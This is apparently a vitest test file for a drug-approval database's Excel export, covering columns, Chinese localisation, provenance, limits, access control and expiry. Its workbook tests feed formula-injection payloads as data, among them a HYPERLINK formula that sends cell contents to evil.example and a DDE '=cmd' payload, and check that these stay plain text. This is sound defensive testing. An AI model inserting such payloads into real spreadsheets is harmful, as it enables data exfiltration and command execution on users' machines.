import { existsSync, readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import * as fc from 'fast-check'
import { afterEach, describe, expect, it } from 'vitest'
import type { ExportAnswer } from '../../domain/contract.ts'
import { drugus } from '../../domain/databases/drugus/definition.ts'
import type { Condition } from '../../domain/query.ts'
import { buildWorkbook } from '../../server/export/workbook.ts'
import { Browser, codeOf, errorOf, EXPORT, sampleRow, testGateway, type Answer, type TestGateway } from './harness.ts'
import { readWorkbook } from './xlsx.ts'
import { runs } from '../runs.ts'

let gateway: TestGateway
afterEach(() => gateway?.close())

const HOUR = 3_600_000

const download = async (browser: Browser, request: unknown) => {
  const made = (await browser.post('/api/databases/drugus/export', request)) as Answer<ExportAnswer>
  if (made.status !== 200) throw new Error(made.text)
  const response = await gateway.app.request(`http://materia.test${made.body.link}`, {
    headers: { cookie: [...browser.cookies].map((pair) => pair.join('=')).join('; ') },
  })
  return { made: made.body, response, bytes: new Uint8Array(await response.arrayBuffer()) }
}

const texts = (sheet: ReturnType<typeof readWorkbook>['sheets'][number] | undefined) =>
  sheet?.rows.map((row) => row.map((cell) => cell?.value))

describe('export', () => {
  it('DB-07 BEY-03 equals the screen: columns in their order, labels and terms in English, numbers as numbers', async () => {
    gateway = await testGateway()
    const browser = new Browser(gateway)
    await browser.login(gateway)
    const { made, response, bytes } = await download(browser, { ...EXPORT, columns: [...EXPORT.columns].reverse() })
    expect(made).toMatchObject({ fileName: 'US Approved 20261121-0300.xlsx', rows: 3, bytes: bytes.length })
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="materia.xlsx"; filename*=UTF-8''US%20Approved%2020261121-0300.xlsx`,
    )
    expect(response.headers.get('cache-control')).toBe('private, no-store')
    const { sheets } = readWorkbook(bytes)
    expect(sheets.map(({ name }) => name)).toStrictEqual(['Records', 'Provenance'])
    const [header, first] = texts(sheets[0]) ?? []
    expect(header).toHaveLength(8)
    expect(header?.slice(-3)).toStrictEqual(['Active ingredient', 'Brand name', 'Application No.'])
    expect(first?.slice(0, 3)).toStrictEqual(['1', '2014-09-04', 'Yes'])
    expect(first?.slice(-3)).toStrictEqual(['Pembrolizumab', 'KEYTRUDA', 'BLA125511'])
    expect(sheets[0]?.rows).toHaveLength(4)
    // A number is a number: no type, or the explicit one.
    expect([undefined, 'n']).toContain(sheets[0]?.rows[1]?.[0]?.type)
  })

  it('LANG-03 BEY-11 TRUTH-01 TRUTH-02 in Chinese: labels, options, file name; names as published, groups in a marked column of their own', async () => {
    gateway = await testGateway()
    const browser = new Browser(gateway)
    await browser.login(gateway)
    const { made, bytes } = await download(browser, {
      ...EXPORT,
      columns: [...EXPORT.columns, 'ingredientGroup', 'drugType', 'substanceIndication'],
      language: 'cn',
    })
    const { sheets } = readWorkbook(bytes)
    expect(sheets.map(({ name }) => name)).toStrictEqual(['检索结果', '数据来源'])
    const [header, first] = texts(sheets[0]) ?? []
    for (const label of header ?? []) expect(label).toMatch(/\p{Script=Han}/u)
    expect([header?.[2], first?.[2]]).toStrictEqual(['活性成分', 'Pembrolizumab'])
    expect([header?.[8], first?.[8]]).toStrictEqual(['活性成分（物质归并）', '帕博利珠单抗'])
    // What the importer concludes, and what is known of the substance, too.
    expect(header?.slice(9)).toStrictEqual(['药品类型（推导）', '物质适应症（推导）'])
    expect(first?.[4]).toMatch(/^\p{Script=Han}+；\p{Script=Han}+$/u)
    expect(first?.[5]).toBe('是')
    expect(made.fileName).toMatch(/^\p{Script=Han}+.* 20261121-0300\.xlsx$/u)
  })

  it('LANG-03 BEY-01 BEY-03 the sentence of a Chinese workbook is Chinese: fields, words between, options, names that have one', async () => {
    gateway = await testGateway()
    const browser = new Browser(gateway)
    await browser.login(gateway)
    const { bytes } = await download(browser, {
      ...EXPORT,
      conditions: [
        { field: 'ingredientGroup', op: 'is', values: ['Pembrolizumab', 'Nivolumab'] },
        { field: 'applicationType', op: 'not', values: ['anda'] },
        { field: 'approvalDate', op: 'range', values: ['2014-01-01', ''] },
        { field: 'latestActionDate', op: 'years', values: ['2025', '2026'] },
      ],
      sort: [{ field: 'approvalDate', direction: 'desc' }],
      language: 'cn',
    })
    const rows = texts(readWorkbook(bytes).sheets[1]) ?? []
    const values = (item: string) => rows.filter(([name]) => name === item).map(([, value]) => value)
    const parts = [
      '活性成分（物质归并）为 帕博利珠单抗 或 Nivolumab',
      '申请类型不为 ANDA（仿制药申请）',
      '批准日期在 2014-01-01 及以后',
      // The gateway's day is in November 2026.
      '最新行动日期的年份为 2025 或 2026（至今）',
    ]
    expect(values('检索式')).toStrictEqual([parts.join('，且')])
    expect(values('筛选条件')).toStrictEqual(parts)
    expect(values('排序')).toStrictEqual(['批准日期（降序）'])
  })

  it('BEY-03 DB-14 TRUTH-05 the second sheet says what it is and where it comes from', async () => {
    gateway = await testGateway({ env: { PUBLIC_URL: 'https://materia.example' } })
    // Files of several days (TRUTH-05).
    const { catalogue } = gateway.catalogue
    const summaries = await catalogue.summaries()
    catalogue.summaries = async () => summaries.map((summary) => ({ ...summary, asOfFrom: '2019-07-02' }))
    const browser = new Browser(gateway)
    await browser.login(gateway)
    const { bytes } = await download(browser, {
      ...EXPORT,
      conditions: [
        { field: 'ingredient', op: 'is', values: ['Pembrolizumab', 'Nivolumab'] },
        { field: 'applicationType', op: 'not', values: ['anda'] },
        { field: 'approvalDate', op: 'range', values: ['2014-01-01', ''] },
        { field: 'any', op: 'has', values: ['cancer', 'lung'], join: 'and' },
      ],
      sort: [{ field: 'approvalDate', direction: 'desc' }],
      // Whatever else a caller sends is not what the workbook says.
      sentence: '=1+1',
      address: 'https://evil.example/',
    })
    const rows = texts(readWorkbook(bytes).sheets[1]) ?? []
    const values = (item: string) => rows.filter(([name]) => name === item).map(([, value]) => value)
    expect(values('Database')).toStrictEqual(['US Approved'])
    expect(values('Query')).toStrictEqual([
      'Active ingredient, as published, is Pembrolizumab or Nivolumab and Application type is not ANDA and Approval date is on or after 2014-01-01 and any field contains “cancer and lung”',
    ])
    expect(values('Filter')).toHaveLength(4)
    expect(values('Filter')[0]).toBe('Active ingredient, as published, is Pembrolizumab or Nivolumab')
    expect(values('Filter')[1]).toMatch(/is not ANDA/)
    expect(values('Filter')[2]).toBe('Approval date is on or after 2014-01-01')
    expect(values('Filter')[3]).toBe('any field contains “cancer and lung”')
    expect(values('Sort')[0]).toMatch(/\(descending\)$/)
    expect(values('Address')).toStrictEqual([
      'https://materia.example/drugus?ingredient=is:Pembrolizumab|Nivolumab&applicationType=not:anda&approvalDate=range:2014-01-01|&any=has~and:cancer|lung&sort=-approvalDate',
    ])
    expect(values('Data as of')).toStrictEqual(['2019-07-02 – 2026-11-01'])
    expect(values('Publishers')).toStrictEqual(['US Food and Drug Administration'])
    expect(values('Records found')).toStrictEqual(['3'])
    expect(values('Records in this file')).toStrictEqual(['3'])
    expect(values('Complete')).toStrictEqual(['Yes'])
    expect(values('Sample data')[0]).toMatch(/^Yes: generated/)
    expect(values('Exported at')).toStrictEqual(['2026-11-21 03:00:00 UTC'])
    expect(values('Exported by')).toStrictEqual(['jane@acme-pharma.com'])
  })

  it('DB-07/list BEY-03 a result over the limit is refused with its figures, cut only when agreed, and says so', async () => {
    gateway = await testGateway({ rows: Array.from({ length: 1001 }, (_, n) => sampleRow(n)) })
    const browser = new Browser(gateway)
    await browser.login(gateway)
    expect((await browser.post('/api/databases/drugus/export/validate', EXPORT)).body).toStrictEqual({
      allowed: true,
      total: 1001,
      limit: 1000,
      rows: 1000,
      waiting: 0,
    })
    const refused = await browser.post('/api/databases/drugus/export', EXPORT)
    expect([refused.status, errorOf(refused).code, errorOf(refused).params]).toStrictEqual([
      409,
      'export.over_limit',
      { total: 1001, limit: 1000 },
    ])
    const { made, bytes } = await download(browser, { ...EXPORT, truncate: true })
    expect(made.rows).toBe(1000)
    const { sheets } = readWorkbook(bytes)
    expect(sheets[0]?.rows).toHaveLength(1001)
    expect(texts(sheets[1])).toContainEqual(['Complete', 'No: the first 1000 of 1001 records, as agreed before the export'])
  })

  it('GATE-04/export a workbook is asked for by a post and fetched by its link: its owner’s alone, for an hour', async () => {
    gateway = await testGateway()
    const owner = new Browser(gateway)
    await owner.login(gateway)
    const { made, response, bytes } = await download(owner, EXPORT)
    expect([response.status, response.headers.get('content-type')?.includes('spreadsheetml'), readWorkbook(bytes).sheets.length]).toEqual([
      200,
      true,
      2,
    ])
    expect(made.link).toMatch(/^\/api\/exports\/[\w-]{32}$/)
    const other = new Browser(gateway)
    await other.login(gateway, 'eve@evil.com')
    expect(codeOf(await other.get(made.link))).toBe('export.not_found')
    expect(codeOf(await new Browser(gateway).get(made.link))).toBe('auth.required')
    const folder = join(gateway.folder, 'exports')
    const [file = ''] = readdirSync(folder)
    expect(statSync(join(folder, file)).mode & 0o077).toBe(0)
    gateway.clock.pass(HOUR)
    expect(codeOf(await owner.get(made.link))).toBe('export.not_found')
  })

  it('an over file is removed, a living one kept', async () => {
    gateway = await testGateway()
    const browser = new Browser(gateway)
    await browser.login(gateway)
    const { createExports } = await import('../../server/export/exports.ts')
    const folder = join(gateway.folder, 'exports')
    const exports = createExports({
      folder,
      db: gateway.state.db,
      catalogue: gateway.catalogue.catalogue,
      now: gateway.clock.now,
      megabytesPerAccount: 50,
    })
    const first = await download(browser, EXPORT)
    gateway.clock.pass(HOUR / 2)
    const second = await download(browser, EXPORT)
    gateway.clock.pass(HOUR / 2)
    await exports.sweep()
    const idOf = (link: string) => join(folder, `${link.split('/').at(-1)}.xlsx`)
    expect([existsSync(idOf(first.made.link)), existsSync(idOf(second.made.link))]).toStrictEqual([false, true])
  })
})

const INPUT = {
  definition: drugus,
  total: 1,
  asOf: null,
  publishers: [],
  exportedAt: new Date(0),
  exportedBy: 'a@b.co',
  address: '',
  chineseOf: () => undefined,
}
const oneCell = async (value: string) => {
  const bytes = await buildWorkbook({
    ...INPUT,
    rows: [sampleRow(1, { reviewPriority: value })],
    request: { ...EXPORT, language: 'en', conditions: [], sort: [], columns: ['reviewPriority'] },
  })
  return readWorkbook(bytes).sheets[0]?.rows[1]?.[0]
}

describe('workbook', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/c calc'!A0",
    '＝1+1',
  ])('DB-07 %j never becomes a formula', async (value) => {
    const cell = await oneCell(value)
    expect(cell).toMatchObject({ formula: false })
    expect(['s', 'inlineStr', 'str']).toContain(cell?.type)
    // XML reads a carriage return as a line feed.
    expect(cell?.value.replace('\r', '\n')).toBe(`'${value.replace('\r', '\n')}`)
  })

  it('DB-07 whatever a publisher writes, the workbook can be read and holds it as text', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
          fc.string({ unit: 'grapheme', minLength: 1 }),
          fc.constantFrom(
            '<b>&amp;]]>',
            '\u0000x',
            'x\ud800y',
            '\ufffe',
            '  x  ',
            '_x0041_',
            '__x0041__',
            'constructor',
            '__proto__',
            'toString',
          ),
        ),
        async (value) => {
          const cell = await oneCell(value)
          const kept = value
            .replaceAll(/(?![\t\n\r])[\p{Cc}\ufffe\uffff](?<![\u007f-\u009f])/gu, '')
            .toWellFormed()
            .replaceAll('\ufffd', '')
          if (!kept) return
          expect(cell?.formula).toBe(false)
          const read = (cell?.value ?? '').replaceAll('\r', '\n')
          expect([kept, `'${kept}`].map((text) => text.replaceAll('\r\n', '\n').replaceAll('\r', '\n').replaceAll('\ufffd', ''))).toContain(
            read.replaceAll('\ufffd', ''),
          )
        },
      ),
      { numRuns: runs(150) },
    )
  })

  it('DB-07 DB-12 a whole date is a day, a part of one is the text it is; the head stays, filters, and says the sort; numbers lead to records', async () => {
    const rows = ['2024-02-29', '2024-02', '2023-02-29', '1899-12-31', null].map((approvalDate, at) =>
      sampleRow(at + 1, { approvalDate, productCount: at }),
    )
    const columns = ['applicationNumber', 'approvalDate', 'productCount']
    const make = async (sort: { field: string; direction: 'asc' | 'desc' }[], conditions: Condition[] = []) =>
      readWorkbook(
        await buildWorkbook({
          ...INPUT,
          rows,
          address: 'https://materia.example/drugus?any=has:%22a%22',
          request: { ...EXPORT, language: 'en', conditions, sort, columns },
        }),
      ).sheets
    const [records, provenance] = await make([{ field: 'productCount', direction: 'asc' }])
    const dates = records?.rows.slice(1).map((row) => row[1] && [row[1].value, row[1].day ?? false])
    expect(dates).toStrictEqual([['2024-02-29', true], ['2024-02', false], ['2023-02-29', false], ['1899-12-31', false], undefined])
    expect(records?.rows[1]?.[2]).toMatchObject({ type: undefined, value: '0' })
    expect([records?.filter, records?.sort, records?.frozenRows]).toStrictEqual(['A1:C6', ['C'], 1])
    expect(records?.rows[1]?.[0]?.link).toBe(`https://materia.example/drugus/detail/${rows[0]?.id}`)
    const lines = new Map(provenance?.rows.map((row) => [row[0]?.value, row[1]]))
    expect(lines.get('Address')?.link).toBe('https://materia.example/drugus?any=has:%22a%22')
    // Nothing asked for: the order the database has.
    const [plain, said] = await make([])
    expect(plain?.sort).toStrictEqual(['-B', 'A'])
    expect(said?.rows.find((row) => row[0]?.value === 'Sort')?.[1]?.value).toBe('Approval date (descending); Application No. (ascending)')
    // A search for words stands in the order of relevance, which is no column's.
    const [found, told] = await make([], [{ field: 'any', op: 'has', values: ['apixaban'] }])
    expect(found?.sort ?? []).toStrictEqual([])
    expect(told?.rows.find((row) => row[0]?.value === 'Sort')?.[1]?.value).toBe('relevance')
  })

  it('BEY-03 a text longer than a cell ends with … and is counted', async () => {
    const long = `${'x'.repeat(32_765)}😀😀😀`
    const bytes = await buildWorkbook({
      ...INPUT,
      rows: [sampleRow(1, { reviewPriority: long })],
      request: { ...EXPORT, language: 'en', conditions: [], sort: [], columns: ['reviewPriority'] },
    })
    const { sheets } = readWorkbook(bytes)
    const value = sheets[0]?.rows[1]?.[0]?.value ?? ''
    expect([value.length <= 32_767, value.endsWith('x…')]).toStrictEqual([true, true])
    expect(texts(sheets[1])?.at(-1)?.[1]).toMatch(/^1 cell is longer .* ends with …$/)
  })

  it('LANG-03 a workbook of sample data names who made it up, in its language', async () => {
    for (const [language, label, name] of [
      ['cn', '发布机构', 'Materia 示例；Health Canada'],
      ['en', 'Publishers', 'Materia sample; Health Canada'],
    ] as const) {
      const bytes = await buildWorkbook({
        ...INPUT,
        publishers: ['Materia sample', 'Health Canada'],
        rows: [],
        request: { ...EXPORT, language, conditions: [], sort: [] },
      })
      expect(texts(readWorkbook(bytes).sheets[1])).toContainEqual([label, name])
    }
  })

  it('an empty result is a workbook with headers', async () => {
    const bytes = await buildWorkbook({ ...INPUT, total: 0, rows: [], request: { ...EXPORT, language: 'cn', conditions: [], sort: [] } })
    expect(readWorkbook(bytes).sheets[0]?.rows).toHaveLength(1)
  })
})
